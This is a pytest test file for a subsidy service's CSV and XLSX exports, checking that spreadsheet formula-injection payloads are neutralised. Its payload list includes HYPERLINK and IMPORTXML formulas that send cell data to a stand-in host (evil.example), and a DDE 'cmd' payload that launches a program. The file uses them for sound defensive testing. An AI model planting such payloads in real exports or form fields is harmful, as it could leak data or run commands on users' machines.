"""Every CSV and XLSX the service writes neutralises formula injection (OWASP CSV injection cheat sheet)."""

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from subsidy.exports import csv_bytes, safe_cell, xlsx_bytes
from subsidy.flat import flatten, template_columns

# The OWASP payloads, and the one an attacker used on this service's audit log.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/leak?"&B2,"Open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_run_is_prefixed(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["杭州示例智能科技有限公司", "a=b", "", 12, -5, 0, None, True])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_in_a_workbook():
    book = load_workbook(io.BytesIO(xlsx_bytes([("s", ["n", "t"], [{"n": -240000000, "t": "=1+1"}])])))
    assert [cell.value for cell in book.active[2]] == [-240000000, "'=1+1"]


def _formulas(xlsx: bytes) -> list[str]:
    """Return every <f> element in a workbook's sheets: a formula an opened sheet would run."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_a_workbook_never_stores_a_formula():
    rows = [{"a": payload} for payload in PAYLOADS]
    data = xlsx_bytes([("payloads", ["a"], rows)])
    assert _formulas(data) == []
    values = [row[0] for row in load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2, values_only=True)]
    # An XML parser may read a carriage return back as a line feed (openpyxl's own does, lxml does not);
    # what matters is the apostrophe in front.
    assert [v.replace("\r", "\n") for v in values] == ["'" + payload.replace("\r", "\n") for payload in PAYLOADS]


def test_csv_cells_are_prefixed_and_quoted():
    text = csv_bytes(["a"], [{"a": payload} for payload in PAYLOADS]).decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text))][1:] == ["'" + payload for payload in PAYLOADS]


def test_a_formula_username_is_neutralised_in_the_audit_export(officer):
    payload = PAYLOADS[0]
    officer.post("/logout")
    officer.post("/login", data={"username": payload, "password": "wrong"})
    officer.post("/login", data={"username": "li.officer", "password": "correct horse battery"})
    text = officer.get("/officer/audit.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert payload not in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_batch_results_never_run_a_company_name(officer, example):
    rows = []
    for payload in PAYLOADS:
        row = flatten(json.loads(json.dumps(example)))
        row["company.name"] = payload
        rows.append(row)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=template_columns(), extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    response = officer.post("/officer/batch/", data={"file": (io.BytesIO(out.getvalue().encode()), "firms.csv")},
                            content_type="multipart/form-data")
    job = response.headers["Location"]
    while "下载结果 CSV" not in officer.get(job).get_data(as_text=True):
        pass
    token = job.rstrip("/").rsplit("/", 1)[1]
    text = officer.get(f"/officer/batch/{token}/results.csv").get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").isdigit() for cell in cells)
    xlsx = officer.get(f"/officer/batch/{token}/results.xlsx").data
    assert _formulas(xlsx) == []
    names = [row[1] for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + payload.strip() for payload in PAYLOADS]


def test_the_templates_hold_no_formula(officer):
    assert _formulas(officer.get("/officer/batch/template.xlsx").data) == []
